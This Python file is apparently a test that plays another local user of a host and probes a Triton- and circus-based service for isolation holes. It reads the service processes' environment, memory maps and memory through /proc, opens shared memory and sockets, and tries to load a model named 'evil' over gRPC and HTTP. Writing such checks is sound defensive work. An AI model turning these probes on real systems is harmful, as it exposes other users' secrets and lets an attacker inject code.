"""Attacks by another user of the host: `python stranger.py USER FOUND`.

FOUND is JSON: the service's processes, ports and sockets (by number). All else is read from
`/proc`, as anybody can. Prints, as JSON, what was possible; `USER` empty: as whoever starts it.
"""

import json
import os
import pwd
import re
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import zmq
from tritonclient.grpc import InferenceServerClient
from tritonclient.utils import InferenceServerException

SECONDS = 1.0
MODEL = "import os\nraise RuntimeError(os.getuid())\n"
CONFIG = json.dumps({"name": "evil", "backend": "python", "max_batch_size": 0})


def become(user: str) -> None:
    """For good."""
    entry = pwd.getpwnam(user)
    "a".encode("idna")  # a codec is read when first used, which another user perhaps may not
    os.setgroups([])
    os.setgid(entry.pw_gid)
    os.setuid(entry.pw_uid)


def arguments(pids: list[int]) -> list[str]:
    """Of the processes, and what can be read of their environments."""
    words: list[str] = []
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                words += Path(f"/proc/{pid}/{name}").read_text(errors="replace").split("\0")
            except OSError:
                continue
    return words


def by_grpc(url: str) -> Iterator[str]:
    """What a Triton at this address lets one do."""
    client = InferenceServerClient(url)
    calls = {
        "is_server_live": (),
        "load_model": ("evil", {}, CONFIG, {"file:1/model.py": MODEL.encode()}),
        "unload_model": ("nothing",),
        "get_system_shared_memory_status": (),
        "register_system_shared_memory": ("evil", "/evil", 1),
        "get_log_settings": (),
        "get_trace_settings": (),
        "get_model_config": ("moodline",),
        "get_model_repository_index": (),
    }
    for name, given in calls.items():
        try:
            getattr(client, name)(*given, client_timeout=SECONDS)
            yield f"grpc {name}"
        except InferenceServerException as error:
            if error.status() in ("StatusCode.UNAVAILABLE", "StatusCode.DEADLINE_EXCEEDED"):
                break
            yield f"grpc {name}"  # it was heard, at least
    client.close()


def by_zmq(address: str) -> Iterator[str]:
    """Whether a circus arbiter at this address obeys."""
    context = zmq.Context()
    asked = context.socket(zmq.DEALER)
    asked.linger = 0
    try:
        asked.connect(address)
        asked.send(json.dumps({"command": "list", "id": "1", "properties": {}}).encode())
        if asked.poll(round(SECONDS * 1000)):
            yield f"circus {asked.recv_multipart()[-1][:40]!r}"
    except zmq.ZMQError:
        return
    finally:
        context.destroy()


def by_http(port: int) -> Iterator[str]:
    """Whether Triton's HTTP API is there: a page in a browser may send this, too."""
    body = json.dumps({"parameters": {"config": CONFIG, "file:1/model.py": ""}})
    request = (
        f"POST /v2/repository/models/evil/load HTTP/1.0\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    try:
        with socket.create_connection(("127.0.0.1", port), SECONDS) as there:
            there.sendall((request + body).encode())
            status = there.recv(100).split(b"\r\n")[0]
    except OSError:
        return
    if status.split()[1:2] not in ([b"404"], [b"405"], [b"403"]):
        yield f"http {port} {status!r}"


def by_files(pids: list[int]) -> Iterator[str]:
    """The shared memory, the files and the memory of the processes."""
    regions = {
        line.split()[-1]
        for pid in pids
        for line in _lines(Path(f"/proc/{pid}/maps"))
        if "/dev/shm/" in line
    }
    region = next(iter(re.findall(r"moodline_[0-9a-f]{8}_", " ".join(arguments(pids)))), "none")
    regions |= set(map(str, Path("/dev/shm").glob(f"{region}*")))
    for path in regions:
        for flags in (os.O_RDONLY, os.O_RDWR):
            try:
                os.close(os.open(path, flags))
                yield f"shared memory {path}"
            except OSError:
                continue
    for pid in pids:
        for name in ("environ", "maps", "mem"):
            try:
                with Path(f"/proc/{pid}/{name}").open("rb") as opened:
                    opened.read(1) if name != "mem" else None
                yield f"process {name}"
            except OSError:
                continue


def _lines(path: Path) -> list[str]:
    try:
        return path.read_text().splitlines()
    except OSError:
        return []


def by_sockets(words: list[str], inodes: list[int]) -> Iterator[str]:
    """Every socket with a path, those named by the processes and those that the kernel lists."""
    paths = {word.partition("unix:")[2] + ":1" for word in words if "--grpc-address=unix:" in word}
    folders = {word for word in words if re.fullmatch(r"/\S*moodline-sockets-\w+", word)}
    paths |= {f"{folder}/{name}" for folder in folders for name in ("control", "events")}
    for line in _lines(Path("/proc/net/unix"))[1:]:
        fields = line.split()
        if len(fields) == 8 and int(fields[6]) in inodes:
            paths.add(fields[7])
    for path in sorted(paths):
        name = "\0" + path[1:] if path.startswith("@") else path
        with socket.socket(socket.AF_UNIX) as asked:
            try:
                asked.connect(name)
            except OSError:
                continue
        yield f"socket {path}"
        yield from by_grpc(f"unix:{path}")
        yield from by_zmq(f"ipc://{path}")


def main() -> None:
    """Try everything."""
    found = json.loads(sys.argv[2])
    if sys.argv[1]:
        become(sys.argv[1])
    words = arguments(found["pids"])
    possible = [*by_sockets(words, found["inodes"]), *by_files(found["pids"])]
    for port in found["ports"]:
        possible += [*by_http(port), *by_zmq(f"tcp://127.0.0.1:{port}")]
        possible += by_grpc(f"127.0.0.1:{port}")
    print(json.dumps(possible))


if __name__ == "__main__":
    main()
